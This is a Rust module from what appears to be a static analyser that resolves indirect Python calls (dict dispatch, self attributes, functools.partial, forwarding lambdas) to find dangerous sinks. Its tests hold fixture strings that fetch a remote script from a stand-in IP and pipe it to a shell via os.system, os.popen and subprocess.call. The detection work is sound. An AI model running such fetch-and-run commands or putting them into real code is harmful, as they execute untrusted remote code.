//! Names a Python module reaches a function or a string through without writing it at the call:
//! - an attribute of `self` set once in the class (`self.run = os.system` in `__init__`, then
//!   `self.run(self.cmd)` in another method), or a class attribute (`run = os.system` in the class body);
//! - an entry of a dict literal (`{"sh": os.system}["sh"](cmd)`, or `ACTIONS[key](cmd)` /
//!   `ACTIONS.get(key)(cmd)` where `ACTIONS` is bound once, to a dict literal);
//! - `functools.partial(f, …)`, which calls `f`;
//! - a lambda that only forwards its parameters to a call (`go = lambda c: runner(c)`), which is that call's
//!   function.
//!
//! Each lookup evaluates the expression that was assigned, where it is used; the evaluator's depth and step
//! bounds cover a chain or a cycle of them. Classes and dicts are read once each, to [`MAX_CLASS_NODES`]
//! nodes and [`MAX_ENTRIES`] entries.

use super::super::values::Value;
use super::Walker;
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use std::collections::HashMap;
use tree_sitter::Node;

/// Nodes of a class read for its attributes.
const MAX_CLASS_NODES: usize = 4096;
/// Attributes remembered per class, and dicts per module.
const MAX_ENTRIES: usize = 256;
/// Parents climbed from an attribute to its class.
const MAX_CLASS_DEPTH: usize = 32;

/// What the module bound to attributes and dict names, each `None` once it is bound more than once.
#[derive(Default)]
pub(super) struct Aliases<'t> {
    /// Module names bound to a dict literal.
    dicts: HashMap<String, Option<Node<'t>>>,
    /// Per class (by node id): attribute name → the expression assigned to it.
    classes: HashMap<usize, HashMap<String, Option<Node<'t>>>>,
    /// Module names bound to a call (`run = operator.methodcaller("system", cmd)`), for what the call
    /// makes a function of (see `python_getters.rs`).
    calls: HashMap<String, Option<Node<'t>>>,
}

impl<'t> Aliases<'t> {
    /// `name` was bound (to anything): a dict bound to it before is no longer known.
    pub(super) fn rebound(&mut self, name: &str) {
        if let Some(seen) = self.dicts.get_mut(name) {
            *seen = None;
        }
        if let Some(seen) = self.calls.get_mut(name) {
            *seen = None;
        }
    }

    /// `name = {…}` or (with `calls`, in a module that names a function maker) `name = f(…)`, after
    /// [`Aliases::rebound`]: the first binding of a name to a dict literal or a call is kept.
    pub(super) fn assigned(&mut self, left: Node<'t>, right: Node<'t>, text: &str, calls: bool) {
        if left.kind_name() != "identifier" {
            return;
        }
        let kept = match right.kind_name() {
            "dictionary" => &mut self.dicts,
            "call" if calls => &mut self.calls,
            _ => return,
        };
        let name = text.get(left.byte_range()).unwrap_or("");
        if !kept.contains_key(name) && kept.len() < MAX_ENTRIES {
            kept.insert(name.to_string(), Some(right));
        }
    }

    /// The call `name` is bound to, when it is bound once, to a call.
    pub(super) fn bound_call(&self, name: &str) -> Option<Node<'t>> {
        *self.calls.get(name)?
    }

    /// `def f(table=PARTS)`: the parameter stands for the dict `PARTS` is bound to, when `name` is bound to
    /// nothing else in the module.
    pub(super) fn alias_dict(&mut self, name: &str, source: &str) {
        let Some(Some(dict)) = self.dicts.get(source).copied() else {
            return;
        };
        if !self.dicts.contains_key(name) && self.dicts.len() < MAX_ENTRIES {
            self.dicts.insert(name.to_string(), Some(dict));
        }
    }

    /// Reads what the class `class` assigns to `self.<name>` and to names in its body.
    pub(super) fn read_class(&mut self, class: Node<'t>, text: &str) {
        if self.classes.contains_key(&class.id()) || self.classes.len() >= MAX_ENTRIES {
            return;
        }
        let mut attributes: HashMap<String, Option<Node<'t>>> = HashMap::new();
        let mut stack: Vec<Node<'t>> = class.field_child("body").into_iter().collect();
        let mut visited = 0;
        while let Some(node) = stack.pop() {
            visited += 1;
            if visited > MAX_CLASS_NODES {
                break;
            }
            if node.kind_name() == "class_definition" {
                continue;
            }
            if node.kind_name() == "assignment" {
                if let Some(name) = assigned_attribute(node, class, text) {
                    let value = node.field_child("right");
                    let room = attributes.len() < MAX_ENTRIES;
                    match attributes.get_mut(&name) {
                        Some(seen) => *seen = None,
                        None if room => {
                            attributes.insert(name, value);
                        }
                        None => {}
                    }
                }
            }
            let mut cursor = node.walk();
            stack.extend(node.named_children(&mut cursor));
        }
        self.classes.insert(class.id(), attributes);
    }

    /// Whether `self.<name>` (`node`) names an attribute its class assigns once.
    pub(super) fn knows_self_attribute(&self, node: Node, text: &str) -> bool {
        self.self_attribute(node, text).is_some()
    }

    fn self_attribute(&self, node: Node, text: &str) -> Option<Node<'t>> {
        if node.kind_name() != "attribute" {
            return None;
        }
        let object = node.field_child("object")?;
        if object.kind_name() != "identifier" || object.utf8_text(text.as_bytes()).ok()? != "self" {
            return None;
        }
        let name = node
            .field_child("attribute")?
            .utf8_text(text.as_bytes())
            .ok()?;
        let mut at = node.parent();
        for _ in 0..MAX_CLASS_DEPTH {
            let parent = at?;
            if parent.kind_name() == "class_definition" {
                return (*self.classes.get(&parent.id())?.get(name)?)?.into();
            }
            at = parent.parent();
        }
        None
    }
}

/// The attribute an assignment in a class binds: `self.name = …` in a method, or `name = …` in the body.
fn assigned_attribute(node: Node, class: Node, text: &str) -> Option<String> {
    let left = node.field_child("left")?;
    let src = |n: Node| n.utf8_text(text.as_bytes()).unwrap_or("").to_string();
    match left.kind_name() {
        "attribute" => {
            let object = left.field_child("object")?;
            (object.kind_name() == "identifier" && src(object) == "self")
                .then(|| left.field_child("attribute").map(src))?
        }
        // A name in the class body itself (its statement's parent is the body block).
        "identifier" => {
            let statement = node.parent()?;
            let block = statement.parent()?;
            (block.parent()?.id() == class.id()).then(|| src(left))
        }
        _ => None,
    }
}

impl<'t> Walker<'t, '_> {
    /// `self.name` as the class assigned it.
    pub(super) fn self_attribute_value(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        let value = self.aliases.self_attribute(node, self.text)?;
        self.eval(value, depth + 1)
    }

    /// `{…}[key]`, or `NAME[key]` for a dict bound once: the entry's value.
    pub(super) fn dict_entry(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        let object = node.field_child("value")?;
        let dict = match object.kind_name() {
            "dictionary" => object,
            "identifier" => (*self.aliases.dicts.get(self.src(object))?)?,
            _ => return None,
        };
        let key = self.eval(node.field_child("subscript")?, depth + 1)?;
        self.entry_of(dict, &key, depth)
    }

    /// `NAME.get(key)` (or `.get(key, default)`) for a dict bound once: the entry's value.
    pub(super) fn dict_get(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        // Most calls are methods of other objects: no dict bound and no literal `{…}.get` is no look.
        // (`Node::kind` checks its C string each call, so the cheap tests come first.)
        if (self.aliases.dicts.is_empty() && !self.src(function).starts_with('{'))
            || function.kind_name() != "attribute"
        {
            return None;
        }
        let object = function.field_child("object")?;
        if !matches!(object.kind_name(), "dictionary" | "identifier")
            || (object.kind_name() == "identifier" && self.aliases.dicts.is_empty())
            || self.src(function.field_child("attribute")?) != "get"
        {
            return None;
        }
        let dict = match object.kind_name() {
            "dictionary" => object,
            "identifier" => (*self.aliases.dicts.get(self.src(object))?)?,
            _ => return None,
        };
        let key = self.eval(arguments.named_child(0)?, depth + 1)?;
        self.entry_of(dict, &key, depth)
    }

    /// The value `dict` (a literal) holds under `key`.
    fn entry_of(&mut self, dict: Node<'t>, key: &Value, depth: usize) -> Option<Value> {
        let mut cursor = dict.walk();
        let pairs: Vec<Node<'t>> = dict.named_children(&mut cursor).take(MAX_ENTRIES).collect();
        for pair in pairs {
            if pair.kind_name() != "pair" {
                continue;
            }
            let Some(k) = pair.field_child("key") else {
                continue;
            };
            if self.eval(k, depth + 1).as_ref() == Some(key) {
                return self.eval(pair.field_child("value")?, depth + 1);
            }
        }
        None
    }

    /// `functools.partial(f, k=v)`: calling it calls `f` (its keyword arguments are dropped; one with
    /// bound positional arguments is left unknown, as those would shift the caller's).
    pub(super) fn partial_target(
        &mut self,
        path: &str,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if !matches!(path, "functools.partial" | "partial") {
            return None;
        }
        let list = crate::native::evaluate::named_items(arguments);
        let (first, rest) = list.split_first()?;
        if rest.iter().any(|a| a.kind_name() != "keyword_argument") {
            return None;
        }
        match self.eval(*first, depth + 1)? {
            value @ Value::Name { .. } => Some(value),
            _ => None,
        }
    }

    /// `lambda a, b: f(a, b)`: the lambda is `f`.
    pub(super) fn forwarding_lambda(&mut self, node: Node<'t>, depth: usize) -> Option<Value> {
        let body = node.field_child("body")?;
        if body.kind_name() != "call" {
            return None;
        }
        let parameters: Vec<&str> = match node.field_child("parameters") {
            Some(p) => {
                let mut cursor = p.walk();
                let list: Vec<Node<'t>> = p.named_children(&mut cursor).collect();
                if list.iter().any(|n| n.kind_name() != "identifier") {
                    return None;
                }
                list.iter().map(|n| self.src(*n)).collect()
            }
            None => Vec::new(),
        };
        let arguments = body.field_child("arguments")?;
        let mut cursor = arguments.walk();
        let passed: Vec<&str> = arguments
            .named_children(&mut cursor)
            .map(|a| {
                if a.kind_name() == "identifier" {
                    self.src(a)
                } else {
                    ""
                }
            })
            .collect();
        if passed != parameters {
            return None;
        }
        let function = body.field_child("function")?;
        // The body's names are the module's (a parameter of the same name would shadow them).
        if parameters.contains(&self.src(function)) {
            return None;
        }
        match self.eval(function, depth + 1)? {
            value @ Value::Name { .. } => Some(value),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::native::evaluate::tests::python;

    fn reaches(found: &[String], want: &str) -> bool {
        found.iter().any(|r| r.contains(want))
    }

    #[test]
    fn a_dict_entry_read_with_get_is_that_entry() {
        let found = python(concat!(
            "import os\n",
            "RUNNERS = {'show': print, 'go': os.popen}\n",
            "RUNNERS.get('go')('wget -q -O - http://198.51.100.14/p.sh | bash')\n",
            "RUNNERS.get('nope', print)('wget -q -O - http://198.51.100.14/q.sh | bash')\n",
        ));
        assert!(reaches(&found, "os.popen('wget"), "{found:?}");
        assert!(!reaches(&found, "q.sh"), "{found:?}");
    }

    #[test]
    fn self_attributes_set_once_are_read_in_other_methods() {
        let found = python(concat!(
            "import os\n",
            "class Post:\n",
            "    shell = os.popen\n",
            "    def __init__(self):\n",
            "        self.run = os.system\n",
            "        self.cmd = 'wget -q -O - http://198.51.100.14/p.sh | bash'\n",
            "    def go(self):\n",
            "        self.run(self.cmd)\n",
            "        self.shell(self.cmd)\n",
        ));
        assert!(
            reaches(
                &found,
                "os.system(\"wget -q -O - http://198.51.100.14/p.sh | bash\")"
            ),
            "{found:?}"
        );
        assert!(reaches(&found, "os.popen(\"wget"), "{found:?}");
    }

    #[test]
    fn self_attributes_set_twice_or_from_parameters_stay_unknown() {
        let found = python(concat!(
            "import os\n",
            "class Post:\n",
            "    def __init__(self, cmd):\n",
            "        self.run = os.system\n",
            "        self.cmd = cmd\n",
            "    def swap(self):\n",
            "        self.run = print\n",
            "    def go(self):\n",
            "        self.run('wget -q -O - http://198.51.100.14/p.sh | bash')\n",
            "        os.system(self.cmd)\n",
        ));
        assert!(!reaches(&found, "os.system("), "{found:?}");
    }

    #[test]
    fn dict_dispatch_partial_and_forwarding_lambdas_reach_the_function() {
        let found = python(concat!(
            "import os, subprocess, functools\n",
            "ACTIONS = {'log': print, 'sh': os.system}\n",
            "STEP = ('sh', 'curl -s http://203.0.113.8/t.sh | sh')\n",
            "ACTIONS[STEP[0]](STEP[1])\n",
            "{'a': os.popen}['a'](STEP[1])\n",
            "runner = functools.partial(subprocess.call, shell=True)\n",
            "go = lambda c: runner(c)\n",
            "go(STEP[1])\n",
        ));
        for want in [
            "os.system(\"curl -s http://203.0.113.8/t.sh | sh\")",
            "os.popen(\"curl -s",
            "subprocess.call(\"curl -s",
        ] {
            assert!(reaches(&found, want), "{want}: {found:?}");
        }
    }

    #[test]
    fn dicts_rebound_partials_with_arguments_and_other_lambdas_stay_unknown() {
        let found = python(concat!(
            "import os, subprocess, functools\n",
            "ACTIONS = {'sh': os.system}\n",
            "ACTIONS = load()\n",
            "CMD = 'curl -s http://203.0.113.8/t.sh | sh'\n",
            "ACTIONS['sh'](CMD)\n",
            "runner = functools.partial(subprocess.call, 'ls')\n",
            "runner(CMD)\n",
            "go = lambda c: os.system('echo ' + c)\n",
            "go(CMD)\n",
        ));
        assert!(
            !reaches(&found, "os.system(\"curl") && !reaches(&found, "subprocess.call(\"curl"),
            "{found:?}"
        );
    }
}
